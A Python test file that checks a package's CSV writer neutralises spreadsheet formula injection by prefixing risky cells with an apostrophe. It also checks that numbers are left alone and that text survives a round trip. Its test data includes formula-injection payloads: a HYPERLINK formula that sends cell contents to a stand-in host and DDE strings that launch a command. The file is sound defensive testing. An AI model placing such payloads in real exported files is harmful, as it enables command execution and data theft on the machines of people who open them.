"""No cell of a CSV file that we write is a formula, no number is changed, and what was written can be read back."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import briefing
from briefing.load.csv_reader import read_csv
from briefing.text.csv_text import csv_bytes, guard_cell, unguard_cell

FORMULAS = (
    '=HYPERLINK("https://bad.example/?"&A1,"Open")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n=1+1",
    "＝1+1",
    "+49 30 1234",
    "-5 or so",
    "--5",
    "- no statement",
    "@ministry",
)
NUMBERS = (
    *("-5", "+3.2", "-5 %", "+3,2%", "-1,254,300", "-1 254 300,5", "-1.254.300", "+1e6", "-2.5E-3", "0", "1960"),
    *("−5", "– 5", "1-2", "a=b", "", "‘=’"),
)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text: str) -> None:
    assert guard_cell(text) == f"'{text}"
    assert next(iter(csv.reader(io.StringIO(csv_bytes([text], []).decode(), newline=""))))[0][0] == "'"


@pytest.mark.parametrize("text", NUMBERS)
def test_a_number_and_any_other_text_stay(text: str) -> None:
    assert guard_cell(text) == text


@pytest.mark.parametrize("text", ["'-ism' is a suffix", "'=' is a sign", "'@home", "it's =1", "'-5", "''"])
def test_an_apostrophe_of_the_author_stays_unless_it_only_says_that_a_cell_is_text(text: str) -> None:
    assert unguard_cell(text) == (text if text != "'@home" else "@home")


@given(st.text(alphabet="=+-@'15.,% \tab", max_size=12))
def test_what_is_written_is_read_back(text: str) -> None:
    if "'" not in text:
        assert unguard_cell(guard_cell(text)) == text


def test_a_table_is_read_as_it_was_before_its_cells_were_made_harmless() -> None:
    rows = [[cell.strip()] for cell in (*FORMULAS, *NUMBERS) if "'" not in cell and cell.strip()]
    read, _ = read_csv("t.csv", csv_bytes(["position"], rows))
    assert [[row["position"]] for row in read.tree] == rows  # type: ignore[union-attr,index,call-overload]


def test_no_other_module_writes_csv() -> None:
    package = Path(briefing.__file__).parent
    writing = [
        path.name
        for path in package.rglob("*.py")
        if "csv.writer" in path.read_text() or "DictWriter" in path.read_text()
    ]
    assert writing == ["csv_text.py"]
